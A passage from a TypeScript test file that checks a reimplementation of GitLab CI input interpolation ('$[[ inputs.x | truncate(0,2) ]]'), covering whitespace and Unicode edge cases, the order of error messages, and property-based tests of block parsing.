      expect(evalData(`inputs.x${space}`, { x: 'a' }), space.codePointAt(0)?.toString(16)).toEqual({
        ok: false,
        errors: [`unknown interpolation key: \`x${space}\``],
      });
  });
  it('a vertical tab or NUL at an end is stripped (Ruby), while only a line feed ends the data (RE2 `.`)', () => {
    expect(evalData('inputs.x\v', { x: 'a' })).toEqual({ ok: true, value: 'a' });
    expect(findBlocks('$[[ inputs.x\0]]')[0]?.access).toBe('inputs.x');
    // A carriage return, LS or PS inside the data does not end it.
    expect(inBothModes('echo $[[ inputs.x\r| truncate(0,2) ]]')[0]).toEqual({ script: ['echo wo'] });
    expect(findBlocks('$[[ inputs.x | truncate(0,2)\u2029]]')[0]?.functions).toEqual(['truncate(0,2)\u2029']);
    expect(findBlocks('$[[ inputs.x\u2028| truncate(0,2) ]]')[0]?.access).toBe('inputs.x\u2028');
  });
  it('RE2 reads code points: one emoji is one character of data, too few for a block', () => {
    expect(findBlocks('$[[ 😀 ]]')).toEqual([]);
    expect(findBlocks('$[[ a😀 ]]').map((block) => block.data)).toEqual(['a😀']);
  });
});

describe("errors in GitLab's order and number", () => {
  it('every function is matched before any runs (FunctionsStack#build_stack): all unknown names, and only them', () => {
    expect(evalData('inputs.n | expand_vars | bogus', { n: 5 })).toEqual({ ok: false, errors: [NO_FUNCTION('bogus')] });
    expect(evalData('inputs.n | bogus | truncate(1) | posix_escape', { n: 5 })).toEqual({
      ok: false,
      errors: [NO_FUNCTION('bogus'), NO_FUNCTION('truncate(1)')],
    });
    // Then they run in turn, and the first that fails ends the chain.
    expect(evalData('inputs.n | truncate(0,1) | posix_escape', { n: 5 })).toEqual({
      ok: false,
      errors: ['error in `truncate` function: invalid input type: truncate can only be used with string inputs'],
    });
  });
  it('an access with two problems has both errors (Access#initialize), in its order', () => {
    expect(evaluateBlock({ access: 'x'.repeat(1100), functions: [] }, ctx({}))).toEqual({
      ok: false,
      errors: ['invalid interpolation access pattern', 'maximum interpolation expression size exceeded'],
    });
  });
});

describe('block parsing, for any text (fast-check)', () => {
  const pieces = fc.constantFrom(
    '$[[',
    ']]',
    '|',
    '||',
    ' ',
    '\t',
    '\n',
    '\v',
    '\r',
    '\0',
    '\u00a0',
    '\u2028',
    '\u3000',
    'inputs',
    '.',
    'x',
    'truncate(0,2)',
    'a',
  );
  const texts = fc.array(pieces, { maxLength: 24 }).map((parts) => parts.join(''));
  const ASCII_SPACE = /^[\t\n\f\r ]|[\t\n\f\r ]$/;
  const RUBY_STRIPPABLE = /^[\0\t\n\v\f\r ]|[\0\t\n\v\f\r ]$/;

  it("each block is its text, data within one line, and parts as Ruby's split and strip make them", () => {
    fc.assert(
      fc.property(texts, (text) => {
        for (const block of findBlocks(text)) {
          expect(text.slice(block.start, block.end)).toBe(block.raw);
          expect(block.data).not.toContain('\n');
          expect(block.data).not.toMatch(ASCII_SPACE);
          const parts = block.access === undefined ? block.functions : [block.access, ...block.functions];
          for (const part of parts) {
            expect(part).not.toContain('|');
            expect(part).not.toMatch(RUBY_STRIPPABLE);
          }
          // Ruby's split drops only the empty fields at the end: the pipes that end the data.
          const kept = block.data.replace(/\|+$/, '');
          expect(parts.length).toBe(kept === '' ? 0 : kept.split('|').length);
          // Strip never removes a Unicode space.
          const count = (s: string) => [...s].filter((char) => char === '\u00a0' || char === '\u3000').length;
          expect(count(parts.join(''))).toBe(count(block.data));
        }
      }),
      { numRuns: 2000 },
    );
  });
  it('pipes added at the end of a block change nothing GitLab gives', () => {
    // A chain that ends in an empty expression ends the data in a pipe already: more pipes then make
    // its field a space, which Ruby keeps.
    const chains = fc
      .array(fc.constantFrom('truncate(0,2)', 'posix_escape', 'bogus', '', "split(',')"), { maxLength: 4 })
      .filter((chain) => chain.at(-1) !== '');
    fc.assert(
      fc.property(chains, fc.integer({ min: 1, max: 4 }), fc.constantFrom<unknown>('a,b c', 7), (chain, pipes, value) => {
        const data = ['inputs.v', ...chain].join(' | ');
        const [plain] = findBlocks(`$[[ ${data} ]]`);
        const [piped] = findBlocks(`$[[ ${data}${'|'.repeat(pipes)} ]]`);
        if (!plain || !piped) throw new Error('no block');
        expect(evaluateBlock(piped, ctx({ v: value }))).toEqual(evaluateBlock(plain, ctx({ v: value })));
      }),
    );
  });
});
